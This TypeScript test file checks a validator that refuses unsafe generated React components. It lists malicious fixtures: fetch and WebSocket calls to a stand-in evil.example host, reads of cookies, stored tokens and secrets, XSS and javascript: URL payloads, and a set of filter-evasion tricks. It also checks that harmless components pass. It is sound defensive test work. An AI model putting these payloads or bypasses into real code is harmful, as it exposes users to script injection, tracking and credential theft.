// The safety policy: one malicious component per rule, each refused with its rule and line; harmless ones accepted.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { isUi2CodeError } from '../src/errors.js';
import { assertPolicy, checkPolicy } from '../src/validate/policy.js';
import { fixturesDir } from './support/paths.js';

const wrap = (body: string, jsx = '<div />') => `import React from 'react';\n\nexport default function Evil() {\n  ${body}\n  return ${jsx};\n}\n`;

const MALICIOUS: Array<[rule: string, line: number, code: string]> = [
  ['imports-only-react', 1, "import fs from 'fs';\nexport default function A() { return <div />; }"],
  ['imports-only-react', 1, "import x from 'https://evil.example/x.js';\nexport default function A() { return <div />; }"],
  ['no-dynamic-import', 4, wrap("import('https://evil.example/x.js');")],
  ['no-require', 4, wrap("const cp = require('child_process');")],
  ['no-import-meta', 4, wrap('const u = import.meta.url;')],
  ['no-process', 4, wrap('const k = process.env.SECRET;')],
  ['no-eval', 4, wrap("eval('alert(1)');")],
  ['no-eval', 4, wrap("const f = new Function('return 1');")],
  ['no-eval', 4, wrap("setTimeout('alert(1)', 10);")],
  ['no-network', 4, wrap("fetch('https://evil.example');")],
  ['no-network', 4, wrap("const x = new XMLHttpRequest();")],
  ['no-network', 4, wrap("const ws = new WebSocket('wss://evil.example');")],
  ['no-network', 4, wrap("const es = new EventSource('/events');")],
  ['no-network', 4, wrap("const b = (0, Math).sendBeacon;")],
  ['no-storage', 4, wrap("const t = localStorage.getItem('token');")],
  ['no-storage', 4, wrap("const s = sessionStorage.length;")],
  ['no-storage', 4, wrap('const db = indexedDB.open("x");')],
  ['no-globals', 4, wrap('const c = document.cookie;')],
  ['no-globals', 4, wrap('window.location.href = "/x";')],
  ['no-globals', 4, wrap('const g = globalThis;')],
  ['no-undeclared-globals', 4, wrap('const v = someUnknownGlobal + 1;')],
  ['no-computed-access', 4, wrap("const k = 'cons' + 'tructor'; const f = ({} as any)[k + ''];")],
  ['no-prototype-access', 4, wrap('const p = ({}).constructor;')],
  ['no-prototype-access', 4, wrap('const p = ({} as any).__proto__;')],
  ['no-prototype-access', 4, wrap("const p = Object['prototype'];")],
  ['no-dangerous-html', 6, wrap('', '<div\n    dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }}\n  />')],
  ['no-dangerous-html', 6, wrap('', '<iframe\n    srcDoc="<script>alert(1)</script>"\n  />')],
  ['no-dangerous-elements', 5, wrap('', '<script>{"alert(1)"}</script>')],
  ['no-dangerous-elements', 5, wrap('', '<iframe src="/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<object data="/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<embed src="/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<base href="/" />')],
  ['no-dangerous-elements', 5, wrap('', '<meta httpEquiv="refresh" content="0;url=/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<link rel="stylesheet" href="/x.css" />')],
  ['no-dangerous-elements', 4, wrap("const s = React.createElement('script', null, 'alert(1)');")],
  ['no-javascript-urls', 5, wrap('', '<a href="javascript:alert(1)">x</a>')],
  ['no-javascript-urls', 5, wrap('', '<a href=" JaVaScRiPt:alert(1)">x</a>')],
  ['no-javascript-urls', 5, wrap('', '<a href="java\tscript:alert(1)">x</a>')],
  ['no-javascript-urls', 5, wrap('', '<a href="&#106;avascript:alert(1)">x</a>')],
  ['no-external-urls', 5, wrap('', '<img src="https://evil.example/track.png" alt="" />')],
  ['no-external-urls', 5, wrap('', '<img src="//evil.example/track.png" alt="" />')],
  ['no-external-urls', 5, wrap('', '<img srcSet="/a.png 1x, http://evil.example/b.png 2x" alt="" />')],
  ['no-external-urls', 5, wrap('', '<a href="http://evil.example">x</a>')],
  ['no-external-urls', 5, wrap('', '<div style={{ backgroundImage: "url(https://evil.example/bg.png)" }} />')],
  ['no-external-urls', 5, wrap('', '<img src="data:text/html;base64,PHNjcmlwdD4=" alt="" />')],
  // Ways around a naive policy: shadowing, ambient declarations, reflection, spreads, escapes, dynamic styles.
  ['no-undeclared-globals', 4, wrap("const f = (Image: number) => Image; const i = new Image();")],
  ['no-undeclared-globals', 4, wrap("{ const Worker = 1; } const w = new Worker('/w.js');")],
  ['no-undeclared-globals', 1, "declare const Image: any;\nexport default function A() { return <div />; }"],
  ['no-globals', 1, "enum E { A = (globalThis as any).x }\nexport default function A() { return <div />; }"],
  ['no-network', 4, wrap("const f = (fetch: any) => fetch('https://evil.example');")],
  ['no-computed-access', 4, wrap("const k = 'a'; const { [k]: F } = (() => 0) as any;")],
  ['no-prototype-access', 4, wrap("const d = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => 0), 'x');")],
  ['no-dangerous-html', 5, wrap("const p = Object.fromEntries([['src', 'x']]);", '<img {...p} alt="" />')],
  ['no-dangerous-html', 4, wrap("const e = React.createElement('div', { dangerouslySetInnerHTML: { __html: '<b>' } });")],
  ['no-external-urls', 5, wrap('', "<img {...{ src: 'https://evil.example/a.png' }} alt=\"\" />")],
  ['no-external-urls', 4, wrap("const e = React.createElement('img', { src: 'https://evil.example/a.png' });")],
  ['no-external-urls', 4, wrap("const o: any = {}; o.src = 'https://evil.example/a.png';")],
  ['no-external-urls', 5, wrap("const h = 'https:';", '<img src={`${h}//evil.example/a.png`} alt="" />')],
  ['no-external-urls', 5, wrap('', "<div style={{ backgroundImage: 'u\\\\72 l(https://evil.example/a.png)' }} />")],
  ['no-external-urls', 5, wrap('', "<div style={{ backgroundImage: 'image-set(\"https://evil.example/a.png\" 1x)' }} />")],
  ['no-external-urls', 5, wrap("const u = ['ur', 'l(https://evil.example/a)'].join('');", '<div style={{ backgroundImage: u }} />')],
  ['no-external-urls', 5, wrap("const u = 'x';", "<div style={{ background: 'url(' + u + ')' }} />")],
  ['no-undeclared-globals', 5, wrap('', '<Worker />')],
  ['no-globals', 5, wrap('', '<window.Foo />')],
  ['no-dangerous-elements', 5, wrap('', '<svg><animate attributeName="href" to="javascript:alert(1)" /></svg>')],
  ['no-javascript-urls', 5, wrap('', '<svg><set attributeName="href" to="&#x6A;avascript:alert(1)" /></svg>')],
  ['no-dangerous-html', 4, wrap("const p = Object.fromEntries([['src', 'x']]); const e = React.createElement('img', p);")],
  ['no-dangerous-html', 4, wrap("const p = JSON.parse('{}'); const e = React.cloneElement(<img alt=\"\" />, p);")],
  ['no-require', 1, "import fs = require('fs');\nexport default function A() { return <div />; }"],
  ['default-export-component', 1, 'export const A = () => <div />;'],
  ['default-export-component', 1, 'export default 42;'],
  ['syntax', 1, 'export default function ('],
];

describe('safety policy', () => {
  for (const [rule, line, code] of MALICIOUS) {
    it(`refuses ${rule}: ${code.split('\n').find((l) => l.includes('(') || l.includes('<') || l.includes('import'))?.trim().slice(0, 60)}`, () => {
      const violations = checkPolicy(code);
      const hit = violations.find((v) => v.rule === rule);
      assert.ok(hit, `expected ${rule}, got ${JSON.stringify(violations)}`);
      assert.equal(hit.line, line);
      assert.throws(() => assertPolicy(code, 'designs/evil.png'), (e: unknown) => isUi2CodeError(e, 'POLICY') && e.message.includes(`rule ${violations[0].rule} at line ${violations[0].line}`) && e.message.includes('designs/evil.png'));
    });
  }

  it('caps the size and the node count', () => {
    assert.equal(checkPolicy(wrap(`const s = "${'x'.repeat(210_000)}";`))[0].rule, 'max-size');
    assert.equal(checkPolicy(wrap(`const a = [${'1,'.repeat(60_000)}];`))[0].rule, 'max-nodes');
  });

  it('accepts harmless components: hooks, lists, inline styles, data:image, relative links', () => {
    const ok = `import React, { useState, useMemo } from 'react';

type Item = { label: string; value: number };
const ITEMS: Item[] = [{ label: 'One', value: 1 }, { label: 'Two', value: 2 }];

export default function Dashboard() {
  const [open, setOpen] = useState(false);
  const total = useMemo(() => ITEMS.reduce((sum, item) => sum + item.value, 0), []);
  const label = (item: Item) => item.label.toUpperCase() + ITEMS[0].label;
  return (
    <div style={{ width: 400, height: 300, background: '#fff', fontFamily: 'Arial' }}>
      <h1 onClick={() => setOpen(!open)}>{open ? 'Open' : 'Closed'} {Math.round(total * 1.5)}</h1>
      <ul>{ITEMS.map((item) => <li key={item.label}>{label(item)}: {item.value.toFixed(2)}</li>)}</ul>
      <a href="#details">Details</a> <a href="/docs/start">Docs</a>
      <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" style={{ width: 10 }} />
      <div style={{ backgroundImage: 'url(data:image/svg+xml;base64,PHN2Zz4=)' }} />
      <input placeholder="Search" /><button type="button">Go</button>
    </div>
  );
}
`;
    assert.deepEqual(checkPolicy(ok), []);
    assert.deepEqual(checkPolicy(fs.readFileSync(path.join(fixturesDir, 'engine/Card.tsx'), 'utf8')), []);
    assert.deepEqual(checkPolicy("import React from 'react';\nconst Card = () => <p>x</p>;\nexport default React.memo(Card);\n"), []);
    // Scoped names, enums, classes, local variables named like window properties, conditional style values.
    const scoped = `import React, { useState } from 'react';
enum Size { S = 1, M = S * 2 }
class Box { #n = 1; get n() { return this.#n; } static make() { return new Box(); } }
const items = [{ label: 'a', color: '#fff' }];
export default function Fine({ title = 'x' }: { title?: string }) {
  const top = 10; const left = top + 2; const [open] = useState(false);
  const el = React.createElement('span', { className: 'x' }, 'hi');
  for (let i = 0; i < 2; i++) { const j: number = i; void j; }
  try { JSON.parse('1'); } catch (err) { console.log(err); }
  const [form, setForm] = useState({ name: '' });
  const onChange = (e: { target: { name: string; value: string } }) => setForm({ ...form, [e.target.name]: e.target.value });
  React.useEffect(() => { const id = setInterval(() => setForm((f) => f), 1000); return () => clearInterval(id); }, []);
  const submit = () => alert('Saved ' + form.name);
  return <div style={{ top, left, position: 'absolute', background: open ? '#000' : '#fff', cursor: open ? 'pointer' : 'default' }}>{items.map((it) => <span key={it.label} style={{ color: it.color, background: it.color }}>{it.label}{title}{el}{Size.M}{Box.make().n}</span>)}<React.Fragment /><input name="name" onChange={onChange} /><button onClick={submit}>Save</button></div>;
}
`;
    assert.deepEqual(checkPolicy(scoped), []);
  });
});
